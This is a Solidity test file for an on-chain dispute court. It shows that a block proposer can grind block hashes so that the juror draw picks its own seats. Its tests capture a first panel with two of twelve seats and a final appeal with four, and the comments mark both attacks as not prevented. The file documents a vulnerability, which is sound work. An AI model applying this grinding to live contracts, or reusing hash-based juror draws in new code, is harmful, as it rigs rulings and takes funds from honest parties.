// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Case, Ruling} from "../../contracts/types/Case.sol";
import {JobTerms} from "../../contracts/types/Job.sol";
import {CourtBooks} from "../utils/CourtBooks.sol";
import {vm} from "../utils/Vm.sol";

/// @notice The attack: who makes the seed's block tries one block after the other (a byte of its extra data is enough)
/// until the hash draws its own seats, and publishes that one.
/// Peer: any draw by a block's hash (read).
contract PanelChosenByAProposerTest is CourtBooks {
    address private constant HISTORY = 0x0000F90827F1C53a10cb7A02335B175320002935;
    address private constant SYSTEM = 0xffffFFFfFFffffffffffffffFfFFFfffFFFfFFfE;
    /// @dev The runtime code of EIP-2935.
    bytes private constant HISTORY_CODE =
        hex"3373fffffffffffffffffffffffffffffffffffffffe14604657602036036042575f35600143038111604257611fff81430311604257611fff9006545f5260205ff35b5f5ffd5b5f35611fff60014303065500";

    function setUp() public {
        setUpCourtJobs(JURORS);
        vm.etch(HISTORY, HISTORY_CODE);
    }

    /// @dev Not prevented: two seats of twelve are a majority of the first panel after a few dozen hashes. The cheating
    /// provider is paid, if the client does not appeal.
    function testFuzz_TwoSeatsOfTwelveAreThePanel(uint256 nonce) public {
        JobTerms memory terms = submittedCourtJob();
        Books memory expected = booksNow();
        Case memory opened = openCaseOf(terms);
        bool[JURORS] memory isOwn;
        isOwn[4] = true;
        isOwn[9] = true;
        uint256 tries = _grind(opened, false, isOwn, 2, nonce);
        assertTrue(tries <= 1_000, "well below a second of hashing");
        uint256[] memory seats = panelOf(opened, false);
        bytes memory letters = _lettersOf(seats, isOwn);
        vote(opened, false, letters);
        finish(opened);
        applyRuling(terms);
        expected.client -= PANEL_FEE;
        expected.client += expectVotes(expected, seats, letters, Ruling.PROVIDER_RIGHT);
        expectPaid(expected, terms);
        requireBooks(expected);
    }

    /// @dev Not prevented, and final: a cheating provider that lost waits with its appeal until its own block will be the
    /// seed. Four of its seats are a majority of seven, and nobody can appeal again. It has the price, and its own seats
    /// have four of the seven fees; three come back. Everybody who voted honestly is charged.
    function testFuzz_FourSeatsOfTwelveAreTheAppeal(uint256 nonce) public {
        JobTerms memory terms = submittedCourtJob();
        Books memory expected = booksNow();
        Case memory opened = drawnCaseOf(terms);
        uint256[] memory seats = panelOf(opened, false);
        vote(opened, false, "WWW");
        bool[JURORS] memory isOwn;
        uint256 count;
        for (uint256 i; count < 4; ++i) {
            if (i == seats[0] || i == seats[1] || i == seats[2]) continue;
            isOwn[i] = true;
            ++count;
        }
        appeal(operator, opened);
        _grind(opened, true, isOwn, 4, nonce);
        uint256[] memory appealSeats = panelOf(opened, true);
        bytes memory letters = _lettersOf(appealSeats, isOwn);
        vote(opened, true, letters);
        finish(opened);
        applyRuling(terms);
        expectVotes(expected, seats, "WWW", Ruling.PROVIDER_RIGHT);
        expectVotes(expected, appealSeats, letters, Ruling.PROVIDER_RIGHT);
        expected.operator += 3 * SEAT_FEE;
        expectPaid(expected, terms);
        requireBooks(expected);
    }

    /// @dev Tries hashes until a panel has as many of one's own seats as needed.
    function _grind(
        Case memory opened,
        bool isAppeal,
        bool[JURORS] memory isOwn,
        uint256 needed,
        uint256 nonce
    ) private returns (uint256 tries) {
        uint256 seedBlock = block.number + DRAW_BLOCKS;
        for (uint256 found; found < needed; ++tries) {
            uint256 snapshot = vm.snapshotState();
            vm.roll(seedBlock + 1);
            vm.prank(SYSTEM);
            (bool succeeded, ) = HISTORY.call(abi.encode(keccak256(abi.encode(nonce, tries))));
            assertTrue(succeeded, "the history has the hash");
            // Past the opcode's window, so that the hash is the history's.
            vm.roll(seedBlock + 300);
            court.draw(address(escrow), opened);
            uint256[] memory seats = panelOf(opened, isAppeal);
            found = 0;
            for (uint256 i; i < seats.length; ++i) if (isOwn[seats[i]]) ++found;
            if (found < needed) vm.revertToState(snapshot);
        }
    }

    function _lettersOf(uint256[] memory seats, bool[JURORS] memory isOwn) private pure returns (bytes memory letters) {
        letters = new bytes(seats.length);
        for (uint256 i; i < seats.length; ++i) letters[i] = isOwn[seats[i]] ? bytes1("R") : bytes1("W");
    }
}
